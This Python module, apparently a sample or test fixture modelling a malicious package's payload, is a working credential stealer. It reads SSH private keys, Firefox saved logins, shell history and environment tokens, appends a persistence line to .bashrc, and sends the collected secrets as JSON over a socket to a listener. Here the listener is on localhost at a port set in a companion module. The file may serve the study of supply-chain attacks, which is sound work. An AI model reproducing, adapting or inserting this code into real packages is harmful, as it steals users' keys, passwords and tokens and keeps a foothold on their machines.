"""What a hostile package does as soon as its code runs. Who packs it puts `target` beside it: the home of the person and
the port of the attacker's listener. A real one guesses the first, and has the address of the second written in it."""

import glob
import json
import os
import socket

import target

FILES = [".ssh/id_ed25519", ".mozilla/firefox/*/logins.json", ".bash_history"]
START_UP = ".bashrc"


def homes():
    return {os.path.expanduser("~"), target.HOME}


def read_secrets():
    found = {}
    for pattern in (os.path.join(home, name) for home in homes() for name in FILES):
        for path in glob.glob(pattern):
            try:
                with open(path) as file:
                    found[path] = file.read()
            except OSError:
                pass
    return found


def read_tokens():
    return {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name}


def stay():
    for home in homes():
        try:
            with open(os.path.join(home, START_UP), "a") as file:
                file.write("echo the attacker is here as well\n")
        except OSError:
            pass


def phone_home(loot):
    try:
        with socket.create_connection(("127.0.0.1", target.PORT), timeout=5) as line:
            line.sendall(json.dumps(loot).encode())
    except OSError:
        pass


def run():
    """Returns what it took, too: a build can put it into what it hands over."""
    loot = {**read_secrets(), **read_tokens()}
    stay()
    phone_home(loot)
    return loot
